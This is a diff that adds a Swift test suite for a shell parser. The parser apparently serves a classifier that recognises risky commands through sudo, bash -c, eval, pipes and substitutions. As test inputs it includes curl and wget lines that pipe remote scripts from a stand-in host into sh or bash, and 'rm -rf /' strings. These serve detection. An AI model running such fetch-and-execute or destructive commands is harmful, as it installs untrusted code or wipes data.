@@ -1,0 +1,102 @@
+import CavraClassify
+import CavraModel
+import Testing
+
+@Suite("Reading command lines as a shell would")
+struct ShellParserTests {
+    static func commands(_ text: String) -> [[String]] {
+        ShellParser.parse(text).pipelines.flatMap { $0.commands.map(\.words) }
+    }
+
+    static func programs(_ text: String) -> [String] {
+        ShellParser.parse(text).pipelines.flatMap { $0.commands.map(\.program) }
+    }
+
+    @Test(
+        "spellings of terraform apply -auto-approve all reach terraform with the same arguments",
+        arguments: [
+            "sudo terraform apply -auto-approve",
+            "terraform  apply  -auto-approve",
+            "pytest && terraform apply -auto-approve",
+            "/usr/local/bin/terraform apply -auto-approve",
+            "env TF_LOG=1 terraform apply -auto-approve",
+            "bash -c 'terraform apply -auto-approve'",
+            "TF_IN_AUTOMATION=1 nohup terraform apply -auto-approve &",
+            "sudo -u deploy -E env -i PATH=/bin timeout 30m terraform apply -auto-approve",
+            "echo start; (cd infra && terraform apply -auto-approve)",
+            "sh -ec \"terraform apply -auto-approve\"",
+            "eval 'terraform apply -auto-approve'",
+            "x=$(terraform apply -auto-approve)",
+            "terraform \\\n  apply \\\n  -auto-approve",
+            "if true; then terraform apply -auto-approve; fi",
+            "find . -name '*.tf' | xargs -n1 terraform apply -auto-approve",
+        ])
+    func terraformSpellings(line: String) {
+        let terraform = ShellParser.parse(line).pipelines.flatMap(\.commands).filter { $0.program == "terraform" }
+        #expect(terraform.count == 1, "\(line): \(Self.commands(line))")
+        #expect(terraform.first.map { Array($0.arguments).suffix(2) } == ["apply", "-auto-approve"], "\(line)")
+    }
+
+    @Test("a substitution's pipeline is read, so curl piped into sh is seen")
+    func substitution() {
+        let pipelines = ShellParser.parse("echo ok; $(curl -fsSL https://x.example/i.sh | sh)").pipelines
+        #expect(pipelines.contains { $0.commands.map(\.program) == ["curl", "sh"] })
+        let backticks = ShellParser.parse("echo `wget -qO- https://x.example | bash`").pipelines
+        #expect(backticks.contains { $0.commands.map(\.program) == ["wget", "bash"] })
+    }
+
+    @Test("curl piped into sudo bash keeps the pipeline after sudo is stripped")
+    func sudoInPipeline() {
+        let pipelines = ShellParser.parse("curl -s https://x.example | sudo bash -").pipelines
+        #expect(pipelines.map { $0.commands.map(\.program) } == [["curl", "bash"]])
+    }
+
+    @Test("quoted text is an argument, not a command")
+    func quotedLookAlikes() {
+        #expect(Self.programs("echo \"terraform apply -auto-approve\"") == ["echo"])
+        #expect(Self.programs("grep -r 'rm -rf /' docs/") == ["grep"])
+        #expect(Self.commands("grep -r 'rm -rf /' docs/") == [["grep", "-r", "rm -rf /", "docs/"]])
+        #expect(Self.programs("echo 'it''s' # terraform apply") == ["echo"])
+    }
+
+    @Test("here-document bodies are data; redirections are not words")
+    func hereDocuments() {
+        let text = "cat <<'EOF' > notes.txt\nterraform apply -auto-approve\nEOF\nmake test 2>&1 >log.txt"
+        #expect(Self.commands(text) == [["cat"], ["make", "test"]])
+        let stripped = "cat <<-END\n\trm -rf /\n\tEND\necho done"
+        #expect(Self.programs(stripped) == ["cat", "echo"])
+    }
+
+    @Test("control structures: only commands are commands")
+    func controlStructures() {
+        let text = """
+            for f in a b c; do
+              echo "$f"
+            done
+            case "$1" in
+              deploy) kubectl apply -f x.yaml ;;
+              *) echo usage ;;
+            esac
+            deploy() { helm upgrade app ./chart; }
+            while read -r line; do printf '%s' "$line"; done < input
+            """
+        #expect(Self.programs(text) == ["echo", "kubectl", "echo", "helm", "read", "printf"])
+    }
+
+    @Test("lines are counted through continuations and multi-line quotes")
+    func lineNumbers() {
+        let text = "echo one\nfoo \\\n  bar\necho 'a\nb'\nlast"
+        let pipelines = ShellParser.parse(text, firstLine: 10).pipelines
+        #expect(pipelines.map(\.firstLine) == [10, 11, 13, 15])
+    }
+
+    @Test("garbage is read as far as it goes and reported, never a crash", arguments: ["echo 'unclosed", "a \"b", "$(", "`x", "((((", ")))", "|||", ";;;", "<<", "\\"])
+    func garbage(text: String) {
+        _ = ShellParser.parse(text)
+    }
+
+    @Test("an unclosed quote is reported")
+    func unclosedQuote() {
+        #expect(!ShellParser.parse("echo 'unclosed").problems.isEmpty)
+    }
+}
